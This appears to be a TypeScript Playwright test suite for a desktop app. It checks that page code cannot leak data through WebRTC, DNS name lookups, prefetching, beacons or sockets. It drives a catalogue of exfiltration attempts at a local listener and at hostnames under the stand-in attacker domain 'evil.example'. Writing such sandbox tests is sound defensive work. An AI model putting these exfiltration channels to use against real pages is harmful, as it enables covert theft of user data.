/**
 * Code in the page tries every known method to send data out. A listener is at the destination, and Chromium's own log
 * of names and sockets is read afterwards. As a control, the same attempts from an ordinary page must arrive.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { waitFor } from '../../src-main/node/testing/waitFor.ts'
import { NETWORK_SWITCHES } from '../../src-main/shell/switches.ts'
import { chromiumArgs, chromiumPath } from '../browser.ts'
import { type AppWindow, openWindow } from '../gui/app.ts'
import { evaluateAsync } from '../gui/inPage.ts'
import { temporaryFolder } from '../support/daemon.ts'
import { outsideAddress } from '../support/outsideAddress.ts'
import { type ExfiltrationAttempt, waysOut } from './exfiltration.ts'
import { type Listener, listen } from './listener.ts'
import { loggedPlaces } from './netLog.ts'

/** WebRTC does not contact 127.0.0.1 on its own. */
const HOST = outsideAddress() ?? '127.0.0.1'
const EVIL = 'evil.example'

let listener: Listener
/** receives the control attempts of an ordinary page, which show how long attempts take */
let control: Listener
beforeAll(async () => {
  listener = await listen('0.0.0.0')
  control = await listen('0.0.0.0')
})
afterAll(async () => {
  await listener?.close()
  await control?.close()
})

const attempt = (page: Page, way: ExfiltrationAttempt, host: string, port: number) =>
  evaluateAsync(
    page,
    `Promise.race([
      (${way.source})(${JSON.stringify({ host, port, url: `http://${host}:${port}/` })}).then(() => 'done', String),
      new Promise((done) => setTimeout(done, 3000, 'waited')), // Some ways never settle, and the page goes on.
    ])`,
  ).catch(() => 'the page went')

/** Returns a host name unique to the attempt, so that the browser's log shows which one was resolved. */
const hostNameFor = ({ name }: ExfiltrationAttempt) => `${name.replaceAll(/\W/g, '')}.${EVIL}`

const arrival = (at: Listener) => waitFor(() => expect(at.taken()).not.toEqual([]))

/** Attempts that take longest to arrive, and two others. */
const SLOW_WAYS = /WebRTC by|fetched ahead|beacon/

/**
 * Waits until new attempts of an ordinary page have arrived, one after another. Attempts started earlier would have
 * arrived by then.
 */
async function waitForSlowAttempts(): Promise<void> {
  const server = await serveOrdinaryPage()
  const browser = await chromium.launch({ executablePath: chromiumPath(), args: chromiumArgs })
  try {
    control.taken()
    for (const way of waysOut.filter(({ name, open }) => open && SLOW_WAYS.test(name))) {
      const page = await visit(browser, server)
      await attempt(page, way, HOST, control.port)
      await arrival(control)
      await page.context().close()
    }
  } finally {
    await browser.close()
    server.close()
  }
}

async function serveOrdinaryPage(): Promise<Server> {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end('<!doctype html><title>Ordinary</title><body></body>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return server
}

async function visit(browser: Browser, server: Server): Promise<Page> {
  const page = await (await browser.newContext()).newPage()
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
  return page
}

describe('an ordinary page', () => {
  let browser: Browser
  let server: Server
  const log = join(temporaryFolder(), 'ordinary.json')

  beforeAll(async () => {
    server = await serveOrdinaryPage()
    const args = [...chromiumArgs, `--log-net-log=${log}`]
    browser = await chromium.launch({ executablePath: chromiumPath(), args })
  })
  afterAll(async () => {
    await browser?.close()
    server?.close()
  })

  it.each(waysOut.filter((way) => way.open))('sends data by: $name', async (way) => {
    const page = await visit(browser, server)
    listener.taken()
    await attempt(page, way, HOST, listener.port)
    await arrival(listener)
    await page.context().close()
  })

  it('triggers name lookups, which carry data without any connection', async () => {
    const ways = waysOut.filter(({ name }) => /ahead|fetch$|WebRTC/.test(name))
    await Promise.all(ways.map(async (way) => attempt(await visit(browser, server), way, hostNameFor(way), 80)))
    await browser.close()
    const names = loggedPlaces(log, /^HOST_RESOLVER_MANAGER_(JOB|REQUEST)/)
    expect(names.filter((name) => name.includes(EVIL)).length).toBeGreaterThan(2)
  })
})

describe('an ordinary page in a browser with only the app’s switches', () => {
  let browser: Browser
  const log = join(temporaryFolder(), 'switches.json')

  beforeAll(async () => {
    const switches = NETWORK_SWITCHES.map(([name, value]) => (value === '' ? `--${name}` : `--${name}=${value}`))
    const args = [...chromiumArgs, ...switches, `--log-net-log=${log}`]
    browser = await chromium.launch({ executablePath: chromiumPath(), args })
  })
  afterAll(() => browser?.close())

  it('sends nothing, neither by WebRTC nor by a name lookup', async () => {
    const context = await browser.newContext()
    await context.route('http://ordinary.localhost/', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Ordinary</title><body></body>' }),
    )
    listener.taken()
    const ways = waysOut.filter(({ name }) => /ahead|fetch$|WebRTC|socket/i.test(name))
    const tries = ways.flatMap((way) => [HOST, hostNameFor(way)].map((host) => ({ way, host })))
    await Promise.all(
      tries.map(async ({ way, host }) => {
        const page = await context.newPage()
        await page.goto('http://ordinary.localhost/')
        await attempt(page, way, host, listener.port)
      }),
    )
    await waitForSlowAttempts()
    expect(listener.taken()).toEqual([])
    await browser.close()
    const names = loggedPlaces(log, /^HOST_RESOLVER_MANAGER_(JOB|REQUEST)/)
    expect(names.filter((name) => name.includes(EVIL))).toEqual([])
  })
})

describe('the page of the desktop app', () => {
  let window: AppWindow
  const home = temporaryFolder()
  const log = join(home, 'app.json')

  beforeAll(async () => {
    window = await openWindow({ transport: 'shell', home, args: [`--log-net-log=${log}`, '-automine=0'] })
  })

  it('sends nothing by any attempt, to an address or to a name, and stays at its address', async () => {
    const { page } = window
    const pages = page.context().pages().length
    const path = () => page.url().replace(/#.*/, '')
    const here = path()
    listener.taken()
    for (const way of waysOut) {
      await attempt(page, way, HOST, listener.port)
      await attempt(page, way, hostNameFor(way), listener.port)
      expect([way.name, path()]).toEqual([way.name, here])
      // Elements that an attempt added to the document must not disturb the next one.
      if (way.leaves) await waitFor(() => page.reload())
    }
    await waitForSlowAttempts()
    expect(listener.taken()).toEqual([])
    await expect.poll(() => page.context().pages().length).toBe(pages)
  })

  it('offers no WebRTC in any frame, not even in new ones', async () => {
    const found = await evaluateAsync(
      window.page,
      `(() => {
        const names = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel']
        const frame = document.createElement('iframe')
        document.body.append(frame)
        const late = document.createElement('iframe')
        late.srcdoc = '<p>late</p>'
        return new Promise((done) => {
          late.onload = done
          setTimeout(done, 1000)
          document.body.append(late)
        }).then(() => [window, frame.contentWindow, late.contentWindow]
          .flatMap((scope, place) => names.filter((name) => name in scope).map((name) => place + name)))
      })()`,
    )
    expect(found).toEqual([])
  })

  it('resolved no name and opened no socket, according to the log of the browser', async () => {
    await window.close()
    const names = loggedPlaces(log, /^HOST_RESOLVER_MANAGER_(JOB|REQUEST)|^DNS_TRANSACTION/)
    expect(names.filter((name) => name.includes(EVIL) || name.includes(HOST))).toEqual([])
    const sockets = loggedPlaces(log, /^(TCP_CONNECT_ATTEMPT|UDP_CONNECT|UDP_LOCAL_ADDRESS|SOCKET_OPEN)/)
    expect(sockets.filter((address) => address.includes(`:${listener.port}`))).toEqual([])
  })
})
